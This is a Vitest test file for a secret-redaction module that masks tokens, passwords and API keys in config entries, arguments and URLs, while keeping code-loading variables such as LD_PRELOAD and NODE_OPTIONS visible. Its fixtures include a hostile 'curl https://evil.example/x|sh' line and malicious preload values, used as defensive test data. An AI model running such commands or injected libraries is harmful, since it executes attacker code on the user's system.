import { expect, test } from "vitest";
import { hideSecrets, secretsIn, secretsOf, shownReach, shownUrl } from "./secrets.ts";

test.each([
  [{ env: { GITHUB_TOKEN: "abcdef" } }, ["abcdef"]],
  [{ env: { OPENAI_API_KEY: "x", LOG_LEVEL: "debug", PORT: "3000" } }, ["x"]],
  [{ env: { ANYTHING: "ghp_0123456789abcdef" } }, ["ghp_0123456789abcdef"]],
  [{ env: { API_KEY: `\${env:API_KEY}`, AUTH: "true" } }, []],
  [{ headers: { Authorization: "Bearer s3cret", Accept: "text/plain" } }, ["s3cret"]],
  [{ headers: { Authorization: `Bearer \${env:T}` } }, []],
  [{ args: ["--api-key", "k1", "--port", "80", "--token=t1", "DB_PASSWORD=p1"] }, ["k1", "t1", "p1"]],
  [{ args: ["postgres://me:hunter2@db/x", "/home/me/Documents/notes/2026"] }, ["hunter2", "hunter2"]],
  [{ url: "https://x.example/mcp?api_key=zzz&page=2" }, ["zzz"]],
])("of %j the secrets are %j", (entry, expected) => {
  expect(secretsOf(entry)).toEqual(expected);
});

test.each([
  ["NODE_OPTIONS", "--require=./x_0123456789abcdefghijklmnop.cjs"],
  ["LD_PRELOAD", "libevil0123456789abcdefghijklmnop.so"],
  ["DYLD_INSERT_LIBRARIES", "sk-evil.dylib"],
  ["BASH_ENV", "eyJ.sh"],
  ["ENV", "eyJ.sh"],
  ["PYTHONPATH", "npm_evil"],
  ["PERL5OPT", "hf_evil"],
  ["RUBYOPT", "sk-evil"],
  ["PATH", "npm_evil"],
  ["GIT_SSH_COMMAND", "sk-evil"],
])("%s says which code runs: it is never hidden", (name, value) => {
  expect(secretsOf({ env: { [name]: value } })).toEqual([]);
  expect(shownReach({ command: "node", env: { [name]: value, A_TOKEN: value } })).toEqual([
    `${name}=${value}`,
    "node",
  ]);
  // The control: elsewhere it is.
  expect(secretsOf({ env: { ANYTHING_TOKEN: value } })).toEqual([value]);
});

test("a variable that is a secret by its name stays one, however it begins", () => {
  expect(secretsOf({ env: { GIT_TOKEN: "abc", LD_SDK_KEY: "def" } })).toEqual(["abc", "def"]);
});

test("each word loses only what is secret where it stands", () => {
  const evil = "curl https://evil.example/x|sh";
  const entry = { command: "sh", args: ["-c", evil, "--token", evil, `KEY=${evil}`], env: { A_TOKEN: evil } };
  expect(shownReach(entry)).toEqual(["sh", "-c", evil, "--token", "•••", "KEY=•••"]);
});

test.each([
  ["https://evil.example.com/mcp?token=evil.example.com", "https://evil.example.com/mcp?token=•••"],
  [
    "https://me:evil.example@evil.example/x?a=1&api_key=zz#y",
    "https://me:•••@evil.example/x?a=1&api_key=•••",
  ],
  ["https://ghp_0123456789abcdef.example/ghp_0123456789abcdef", "https://ghp_0123456789abcdef.example/•••"],
  ["postgres://me:a@b@db:5432/x", "postgres://me:•••@db:5432/x"],
  ["https://evil.example:80\\@good.example", "https://evil.example:80\\@good.example"],
  ["https://x.example", "https://x.example"],
  ["no address: at all@all", "no address: at all@all"],
])("of %s is shown %s", (url, shown) => {
  expect(shownUrl(url)).toBe(shown);
});

test("what is part of the host is not hidden in a line either", () => {
  const url = "https://evil.example.com/mcp?token=evil.example.com";
  expect(hideSecrets(url, secretsOf({ url }))).toBe(url);
  expect(secretsOf({ url: "postgres://postgres:postgres@postgres.example/x" })).toContain("postgres");
});

test("they are hidden in JSON and in plain text, short ones only by themselves", () => {
  expect(hideSecrets('{"a": "x\\"yzzz", "b": 1}', ['x"yzzz'])).toBe('{"a": "•••", "b": 1}');
  expect(hideSecrets('{"TOKEN": "a", "command": "cat"}', ["a"])).toBe('{"TOKEN": "•••", "command": "cat"}');
  expect(hideSecrets("--token=a", ["a"])).toBe("--token=•••");
});

test("they are found in any shape", () => {
  const file = {
    oauth: { accessToken: "aaa" },
    list: [{ env: { API_KEY: "bbb" }, args: ["--token", "ccc"] }],
    theme: "dark",
    url: "https://example.com/mcp",
  };
  expect(secretsIn(file)).toEqual(["aaa", "bbb", "ccc"]);
});
